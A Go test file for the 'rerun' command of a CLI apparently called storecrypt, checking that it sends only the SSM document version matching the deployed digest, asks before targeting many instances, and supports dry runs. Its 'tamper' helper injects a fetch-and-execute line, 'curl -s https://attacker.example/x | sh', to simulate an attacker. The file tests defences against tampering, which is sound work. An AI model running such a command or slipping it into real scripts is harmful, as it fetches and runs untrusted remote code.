package opcli_test

import (
	"strings"
	"testing"

	"github.com/storecrypt/storecrypt/internal/contract"
	"github.com/storecrypt/storecrypt/internal/fakeaws"
	"github.com/storecrypt/storecrypt/internal/golden"
	"github.com/storecrypt/storecrypt/internal/opcli"
)

// tamper adds a version of the stack's document with a step of the attacker's;
// makeDefault makes it the default version.
func tamper(w *fakeaws.World, makeDefault bool) {
	var deployed string
	w.With(func() { deployed = w.Documents[contract.DocumentName].Versions[0] })
	w.AddDocument(contract.DocumentName, strings.Replace(deployed, "set -eu", "set -eu; curl -s https://attacker.example/x | sh", 1), makeDefault)
}

// sendCommands counts the SendCommand calls w received, failed ones too.
func sendCommands(w *fakeaws.World) int {
	n := 0
	for _, c := range w.Log() {
		if c.Operation == "SendCommand" {
			n++
		}
	}
	return n
}

// TestRerunSendsTheDeployedContent: whoever may change the document or its default version
// gets no code run by a rerun. It sends only a version whose content has the stack's
// DocumentDigest (document.Trust, as the launch function does), says which, and when no
// version has it, sends nothing and exits 12; so does a stack without the digest.
func TestRerunSendsTheDeployedContent(t *testing.T) {
	one := []string{"rerun", "--instance", "i-00000000000000011"}
	many := []string{"rerun", "--targets", "tag:team=batch", "--yes"}
	failed := int(contract.CLIExitRerunFailed) // batch's i-00000000000000013 fails
	// No version with the deployed content: a tampered default, and version 1 rewritten.
	noneDeployed := func(w *fakeaws.World) {
		tamper(w, true)
		w.With(func() {
			d := w.Documents[contract.DocumentName]
			d.Versions[0] = d.Versions[1]
		})
	}
	for _, tc := range []struct {
		name    string
		setup   func(w *fakeaws.World)
		args    []string
		code    int
		version string // the version every command sent names; "" when none may be sent
		says    string // on stderr
	}{
		{"untouched, one", func(*fakeaws.World) {}, one, 0, "1", "(" + contract.DocumentName + " version 1) sent to i-00000000000000011"},
		{"untouched, many", func(*fakeaws.World) {}, many, failed, "1", "DOCUMENT  " + contract.DocumentName + " version 1, the default\n"},
		{"a tampered default, one", func(w *fakeaws.World) { tamper(w, true) }, one, 0, "1",
			"storecrypt: the default of " + contract.DocumentName + " is not the content stack StoreCrypt deployed (version 2 of " + contract.DocumentName + ": the document is not the content the stack deployed: digest "},
		{"a tampered default, many", func(w *fakeaws.World) { tamper(w, true) }, many, failed, "1",
			"DOCUMENT  " + contract.DocumentName + " version 1, not the default 2, which is not the deployed content\n"},
		{"the deployed content at a later version, not the default", func(w *fakeaws.World) {
			var deployed string
			w.With(func() { deployed = w.Documents[contract.DocumentName].Versions[0] })
			tamper(w, true)
			w.AddDocument(contract.DocumentName, deployed, false) // 3: the newest with the content
			tamper(w, false)
		}, many, failed, "3", "sending version 3, which is\n"},
		{"another KmsKeyId default", func(w *fakeaws.World) {
			var deployed string
			w.With(func() { deployed = w.Documents[contract.DocumentName].Versions[0] })
			w.AddDocument(contract.DocumentName, strings.Replace(deployed, fakeaws.KeyARN, strings.Replace(fakeaws.KeyARN, "key/", "key/0", 1), 1), true)
		}, one, 0, "1", `the default of KmsKeyId is "`},
		{"no version holds the content, one", noneDeployed, one, int(contract.CLIExitUntrusted), "",
			"storecrypt rerun: nothing sent: no version of document " + contract.DocumentName + " holds the content stack StoreCrypt deployed, whose DocumentDigest is "},
		{"no version holds the content, many", noneDeployed, many, int(contract.CLIExitUntrusted), "", "(the default: version 2 of " + contract.DocumentName + ": the document is not the content the stack deployed: digest "},
		{"no DocumentDigest output", func(w *fakeaws.World) {
			w.With(func() { delete(w.Stacks[contract.StackName].Outputs, contract.OutputDocumentDigest) })
		}, one, 1, "", "lacks the outputs storecrypt reads"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := batch(t)
			tc.setup(w)
			before, sends := len(sent(w, 0)), sendCommands(w)
			code, out, errOut := run(t, worldClients(w, nil), "", tc.args...)
			if code != tc.code || !strings.Contains(errOut, tc.says) {
				t.Fatalf("got exit %d, stderr:\n%s\nwant exit %d saying %q\n%s", code, errOut, tc.code, tc.says, out)
			}
			cmds := sent(w, before)
			if tc.version == "" {
				if n := sendCommands(w) - sends; n != 0 {
					t.Errorf("got %d SendCommand calls, want none", n)
				}
				return
			}
			if len(cmds) == 0 {
				t.Fatal("got no command, want one")
			}
			for _, c := range cmds {
				if c.DocumentVersion != tc.version {
					t.Errorf("command %s: got version %q, want %q", c.ID, c.DocumentVersion, tc.version)
				}
			}
		})
	}
}

// TestRerunAsksFirst: a rerun of many instances lists what it reaches and leaves out, then
// asks on a terminal; without a terminal it needs --yes, and --dry-run sends nothing.
func TestRerunAsksFirst(t *testing.T) {
	targets := []string{"rerun", "--targets", "tag:team=batch"}
	for _, tc := range []struct {
		name     string
		terminal bool
		answer   string
		args     []string
		code     int
		sent     bool
		says     string // on stderr
	}{
		{"yes on a terminal", true, "y\n", targets, int(contract.CLIExitRerunFailed), true, "LEFT OUT (2)"},
		{"no on a terminal", true, "n\n", targets, 1, false, "Rerun " + contract.DocumentName + " version 1 on these 3 instances? [y/N] storecrypt rerun: not confirmed: nothing was sent\n"},
		{"no answer on a terminal", true, "", targets, 1, false, "not confirmed: nothing was sent"},
		{"--yes on a terminal", true, "", append(targets, "--yes"), int(contract.CLIExitRerunFailed), true, "RERUN (3)"},
		{"no terminal", false, "y\n", targets, 2, false, "stdin is not a terminal: pass --yes to send without asking"},
		{"no terminal, --instances", false, "y\n", []string{"rerun", "--instances", "i-00000000000000011"}, 2, false, "pass --yes"},
		{"no terminal, --dry-run", false, "", append(targets, "--dry-run"), 0, false, ""},
		{"no terminal, one instance", false, "", []string{"rerun", "--instance", "i-00000000000000011"}, 0, true, ""},
		{"one instance out of scope", false, "", []string{"rerun", "--instance", "i-00000000000000014"}, 1, false,
			"nothing sent: i-00000000000000014 is left out: outside the stack's scope: role " + fakeaws.NotKeyUser + " is not one of the stack's\n"},
		{"one instance without instance store, --dry-run", false, "", []string{"rerun", "--instance", "i-00000000000000015", "--dry-run"}, 0, false, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if tc.terminal {
				opcli.StdinIsTerminal(t)
			}
			w := batch(t)
			calls, sends := w.TotalCalls(), sendCommands(w)
			code, _, errOut := run(t, worldClients(w, nil), tc.answer, tc.args...)
			if code != tc.code || !strings.Contains(errOut, tc.says) {
				t.Fatalf("got exit %d, stderr:\n%s\nwant exit %d saying %q", code, errOut, tc.code, tc.says)
			}
			if got := sendCommands(w) > sends; got != tc.sent {
				t.Errorf("got sent %v, want %v", got, tc.sent)
			}
			if code == 2 && w.TotalCalls() != calls {
				t.Errorf("got %d AWS calls before refusing, want none", w.TotalCalls()-calls)
			}
		})
	}
}

// TestRerunDryRun: --dry-run prints, in each format, the version to be sent (here not the
// tampered default) and the instances reached and left out, with why. SSM's form of the
// same target reaches the same instances.
func TestRerunDryRun(t *testing.T) {
	for _, tc := range []struct{ golden, output, targets string }{
		{"rerun-dry-run.txt", "table", "tag:team=batch"}, {"rerun-dry-run.json", "json", "tag:team=batch"}, {"rerun-dry-run-text.txt", "text", "tag:team=batch"},
		{"rerun-dry-run.txt", "table", "Key=tag:team,Values=batch"},
	} {
		t.Run(tc.golden+" "+tc.targets, func(t *testing.T) {
			w := batch(t)
			tamper(w, true)
			code, out, errOut := run(t, worldClients(w, nil), "", "rerun", "--targets", tc.targets, "--dry-run", "--output", tc.output)
			if code != 0 || sendCommands(w) != 0 {
				t.Fatalf("got exit %d and %d SendCommand calls, want 0 and none:\n%s", code, sendCommands(w), errOut)
			}
			golden.Check(t, tc.golden, []byte(out))
		})
	}
}
